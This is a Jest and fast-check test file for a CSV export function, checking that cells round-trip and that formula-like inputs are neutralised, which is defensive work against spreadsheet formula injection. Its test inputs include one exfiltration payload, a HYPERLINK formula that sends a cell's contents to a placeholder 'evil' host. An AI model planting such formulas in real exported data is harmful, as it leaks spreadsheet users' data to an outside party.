/** CSV for spreadsheets: what goes in comes out of any parser, and is a formula in none. */
import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { csvRow } from '../../src/main/audit-report/csv.ts'

/** As RFC 4180 reads one row of quoted cells. */
function parse(row: string): readonly string[] {
  expect(row.endsWith('\r\n')).toBe(true)
  const cells = row.slice(0, -2).match(/"(?:[^"]|"")*"/g) ?? []
  expect(`${cells.join(',')}\r\n`).toBe(row)
  return cells.map((cell) => cell.slice(1, -1).replaceAll('""', '"'))
}

describe('a row of CSV', () => {
  it('holds exactly its cells, whatever they hold, on one line', () => {
    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('"', '","', '\r\n', ';', '', '=1', '\t', '\u202e', '=1\r\n=2'))
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        const read = parse(csvRow(cells))
        expect(read).toHaveLength(cells.length)
        expect(read.join('')).not.toMatch(/[\p{Cc}\p{Cf}]/u)
      }),
    )
  })

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\t1', '  =1', '\n=1', '＝1+1', '-5', '=HYPERLINK("http://evil/"&A1)'])(
    'is no formula: %j',
    (text) => {
      const [read = ''] = parse(csvRow([text]))
      expect(read.startsWith("'")).toBe(true)
    },
  )

  it('leaves honest text and numbers as they are', () => {
    const cells = ['ann@example.org', 'sales-person', '2026-01-31T09:00:00Z', '{"a":-1}', 'Müller, Ann', '']
    expect(parse(csvRow([...cells, 42, null]))).toEqual([...cells, '42', ''])
  })
})
